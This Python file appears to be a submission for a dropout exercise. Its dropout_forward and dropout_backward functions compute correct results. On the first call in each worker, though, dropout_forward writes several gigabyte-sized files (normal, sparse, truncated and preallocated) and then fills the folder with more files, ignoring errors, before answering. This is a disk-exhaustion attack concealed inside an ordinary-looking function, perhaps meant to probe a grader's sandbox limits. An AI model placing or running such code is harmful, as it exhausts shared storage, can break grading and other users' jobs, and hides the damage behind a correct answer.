# Write far more than the limits allow into the worker's folder: one huge file (written, made
# sparse, preallocated, written past its end), then file after file until the folder is full.
# The first call in each worker fills the folder, ignoring every error; then it answers correctly.
import errno
import os

import numpy as np

GIB = 1 << 30
CHUNK = bytes(1 << 20)
_filled = False


def write(path, how="write", total=GIB):
    """Try to make ``path`` ``total`` bytes long: "written N", or "denied: ERRNO after N"."""
    done = 0
    fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600)
    try:
        if how == "write":
            while done < total:
                done += os.write(fd, CHUNK)
        elif how == "seek":  # a sparse file: one byte far past the end
            os.lseek(fd, total - 1, os.SEEK_SET)
            done = os.write(fd, b"x")
        elif how == "truncate":
            os.ftruncate(fd, total)
            done = total
        elif how == "fallocate":
            os.posix_fallocate(fd, 0, total)
            done = total
        else:
            raise ValueError(how)
        return f"written {done}"
    except OSError as exc:
        return f"denied: {errno.errorcode.get(exc.errno, exc.errno)} after {done}"
    finally:
        os.close(fd)


def fill_folder(total=GIB, each=GIB):
    """Files of up to ``each`` bytes, one after another, until ``total`` bytes or a file is empty."""
    done, results = 0, []
    while done < total:
        result = write(f"fill-{len(results)}.bin", "write", min(each, total - done))
        results.append(result)
        done += int(result.rsplit(" ", 1)[1])
        if result.endswith(" 0"):
            break
    return f"{len(results)} files, {done} bytes: {results[-1]}"


def sizes():
    """Every file in the folder: name -> [apparent size, bytes allocated]; and the folder's use."""
    files = {e.name: [e.stat().st_size, e.stat().st_blocks * 512] for e in os.scandir(".") if e.is_file()}
    vfs = os.statvfs(".")
    return files, (vfs.f_blocks - vfs.f_bfree) * vfs.f_frsize


def dropout_forward(x, dropout_param):
    global _filled
    if not _filled:
        _filled = True
        for how in ("write", "seek", "truncate", "fallocate"):
            write(f"huge-{how}.bin", how)
        fill_folder()
    p, mode = dropout_param["p"], dropout_param["mode"]
    if "seed" in dropout_param:
        np.random.seed(dropout_param["seed"])
    if mode == "train":
        mask = (np.random.rand(*x.shape) < p) / p
        return (x * mask).astype(x.dtype, copy=False), (mode, mask)
    return x.copy(), (mode, None)


def dropout_backward(dout, cache):
    mode, mask = cache
    return dout * mask if mode == "train" else dout.copy()
